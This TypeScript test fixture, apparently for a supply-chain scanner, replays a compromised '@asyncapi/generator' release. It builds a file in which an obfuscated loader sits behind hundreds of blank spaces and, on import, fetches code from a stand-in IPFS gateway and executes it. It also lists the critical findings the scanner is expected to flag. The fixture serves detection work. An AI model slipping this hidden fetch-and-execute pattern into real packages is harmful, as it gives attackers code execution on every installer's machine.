import { contentIdOf } from '../content-id.js'
import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

/** Fetches a text from IPFS when the module is loaded, and runs it. The text is one that nobody keeps there. */
const loader = obfuscated(
  `
(async function(){try{
const $answer=await globalThis[«fetch»](«https://ipfs-gateway.example/ipfs/${contentIdOf('inert')}»);
const $text=await $answer[«text»]();
(new Function(«require»,$text))(require);
}catch($failure){}})();
`,
  250,
)

const last = 'exports.Queue = Queue;'
const hidden = `${last}${' '.repeat(900)}${loader}`
const file = 'lib/templates/config/validator.js'
const honest = { [file]: compiledQueue, 'lib/generator.js': entry() }
const attacked = {
  ...honest,
  [file]: compiledQueue.replace(last, () => hidden),
}

function entry(): string {
  return `const { createQueue } = require('./templates/config/validator');
const queue = createQueue({ concurrency: 2 });
module.exports = class Generator {
  constructor(template) {
    this.template = template;
  }
  generate(document) {
    return queue.add(() => this.template(document));
  }
};
`
}

const manifest = { main: './lib/generator.js' }
const run = { repository: 'asyncapi/generator', workflow: '.github/workflows/release-with-changesets.yml' }

export const replay = replayUpgrade({
  description:
    'A push by a stranger to a release branch went through the project’s own pipeline: far to the right of an honest line, behind ' +
    'hundreds of blanks, stood obfuscated code that ran on import. Provenance was valid.',
  date: '2026-07-14',
  reviewedAt: '2026-07-15T08:00:00Z',
  name: '@asyncapi/generator',
  from: [
    '3.3.0',
    {
      manifest,
      files: honest,
      published: '2026-06-10T12:00:00Z',
      trustedPublisher: 'github',
      provenance: { ...run, ref: 'refs/heads/master' },
    },
  ],
  to: [
    '3.3.1',
    {
      manifest,
      files: attacked,
      published: '2026-07-14T12:00:00Z',
      trustedPublisher: 'github',
      provenance: { ...run, ref: 'refs/heads/next' },
    },
  ],
  findings: [
    ['code-hidden', 'critical', { file, line: hidden }],
    ['remote-code-run', 'critical', { file, line: hidden }],
    ['combined-risk', 'critical', { file, line: hidden }],
    ['capability-added', 'high', { file, line: hidden }],
    ['code-obfuscated', 'high', { file, line: hidden }],
    ['network-host-added', 'high', { file, line: hidden }],
    ['beacon-added', 'high', { file, line: hidden }],
    ['provenance-changed', 'high'],
    ['release-fresh', 'medium'],
  ],
})
